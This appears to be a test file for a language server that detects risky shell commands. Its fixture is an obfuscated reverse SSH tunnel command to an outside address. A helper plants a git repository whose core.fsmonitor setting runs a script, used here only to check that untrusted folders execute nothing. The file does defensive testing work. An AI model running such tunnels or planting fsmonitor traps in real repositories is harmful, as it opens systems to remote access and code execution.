/** The built server, spoken to as an editor speaks to it, over standard input and output. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Hover } from "vscode-languageserver";
import { CancellationTokenSource, ResponseError, WorkDoneProgress } from "vscode-languageserver/node";
import { type ServerClient, startServer } from "../../scripts/server-client.ts";

const rule = "command/reverse-ssh-tunnel";
const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";

describe("the language server", () => {
  const folders: string[] = [];
  let open: ServerClient | undefined;

  function folder(files: Readonly<Record<string, string>>): string {
    const path = mkdtempSync(join(tmpdir(), "countersign-server-"));
    folders.push(path);
    for (const [name, text] of Object.entries(files)) writeFileSync(join(path, name), text);
    return path;
  }

  afterEach(async () => {
    await open?.stop();
    open = undefined;
    for (const path of folders.splice(0)) rmSync(path, { recursive: true, force: true });
  });

  it("publishes findings with range, code and the address of the rule's page", async () => {
    const path = folder({});
    open = await startServer(path, true);
    const [found] = await open.diagnosticsOf(join(path, "a.sh"), `echo\n${tunnel}\n`);
    assert.ok(found);
    assert.equal(found.code, rule);
    assert.equal(found.codeDescription?.href, "countersign-rule:/command/reverse-ssh-tunnel.md");
    assert.deepEqual(found.range, { start: { line: 1, character: 10 }, end: { line: 1, character: tunnel.length } });
  });

  it("tells on hovering what the rule saw", async () => {
    const path = folder({});
    open = await startServer(path, true);
    const file = join(path, "a.sh");
    await open.diagnosticsOf(file, `${tunnel}\n`);
    const params = { textDocument: { uri: pathToFileURL(file).href }, position: { line: 0, character: 12 } };
    const hover: Hover | null = await open.connection.sendRequest("textDocument/hover", params);
    assert.match(JSON.stringify(hover?.contents), /ssh -N -R=9:localhost:22 -f -- agent@203\.0\.113\.7/);
  });

  it("starts no git in a folder that is not trusted, and shows everything there", async () => {
    const path = folder({ "a.sh": `${tunnel}\n` });
    const trap = trapped(path);
    open = await startServer(path, false);
    const found = await open.diagnosticsOf(join(path, "a.sh"), `${tunnel}\n`);
    assert.equal(found.length, 1);
    await assert.rejects(
      open.ask("countersign/review", { folder: pathToFileURL(path).href }),
      (error) => error instanceof ResponseError && /restricted mode/.test(error.message),
    );
    assert.equal(existsSync(trap), false);
  });

  it("compares with git once the folder is trusted, and runs nothing of the repository for it", async () => {
    const path = folder({ "a.sh": `${tunnel}\n` });
    const trap = trapped(path);
    open = await startServer(path, false);
    await open.diagnosticsOf(join(path, "a.sh"), `${tunnel}\n`);
    const verdict = open.nextVerdict(({ hidden }) => hidden === 1);
    await open.connection.sendNotification("countersign/trusted", {});
    assert.equal((await verdict).shown, 0);
    assert.equal(existsSync(trap), false);
  });

  it("shows all findings of a repository where there is no git to compare with", async () => {
    const path = folder({ "a.sh": `${tunnel}\n` });
    trapped(path);
    open = await startServer(path, true, { PATH: join(path, "nothing") });
    assert.equal((await open.diagnosticsOf(join(path, "a.sh"), `${tunnel}\n`)).length, 1);
  });

  it("stops an audit when it is cancelled", async () => {
    const lines = "cp a b\n".repeat(2_000);
    const path = folder(Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`${index}.sh`, lines])));
    open = await startServer(path, true);
    const cancellation = new CancellationTokenSource();
    let audited = 0;
    open.connection.onProgress(WorkDoneProgress.type, "audit", (step) => {
      if (step.kind === "report") audited = Number.parseInt(step.message ?? "", 10);
      cancellation.cancel();
    });
    const params = { folder: pathToFileURL(path).href, workDoneToken: "audit" };
    const answer = open.connection.sendRequest("countersign/auditFolder", params, cancellation.token);
    await assert.rejects(answer, (error) => error instanceof ResponseError && /Cancelled/.test(error.message));
    assert.ok(audited < 100, `${audited} of 200 files were audited`);
  });

  it("says in words that there is no such rule", async () => {
    open = await startServer(folder({}), true);
    await assert.rejects(open.ask("countersign/rulePage", { rule: "command/none" }), (error) => {
      assert.ok(error instanceof ResponseError);
      assert.match(error.message, /no rule named command\/none/);
      assert.match(JSON.stringify(error.data), /advice/);
      return true;
    });
  });

  it("says in words that a folder is no repository", async () => {
    const path = folder({});
    open = await startServer(path, true);
    await assert.rejects(open.ask("countersign/review", { folder: pathToFileURL(path).href }), /not inside a git repository/);
  });

  it("survives what is no message of its protocol", async () => {
    const path = folder({});
    open = await startServer(path, true);
    await open.connection.sendNotification("countersign/none", { what: 1 });
    await assert.rejects(open.connection.sendRequest("countersign/auditSession", { uri: 7 }));
    assert.equal((await open.diagnosticsOf(join(path, "a.sh"), `${tunnel}\n`)).length, 1);
  });
});

/** A repository with one commit, whose configuration starts a program when git looks at the files. The path that program would make. */
function trapped(path: string): string {
  const git = (...words: readonly string[]): unknown =>
    execFileSync("git", ["-c", "user.name=T", "-c", "user.email=t@example.invalid", ...words], { cwd: path, stdio: "ignore" });
  git("init", "-q", "-b", "main");
  git("add", ".");
  git("commit", "-q", "-m", "Start");
  const sprung = join(path, "sprung");
  const hooks = join(path, ".git", "trap");
  mkdirSync(hooks);
  writeFileSync(join(hooks, "run"), `#!/bin/sh\ntouch '${sprung}'\n`);
  chmodSync(join(hooks, "run"), 0o755);
  git("config", "core.fsmonitor", join(hooks, "run"));
  return sprung;
}
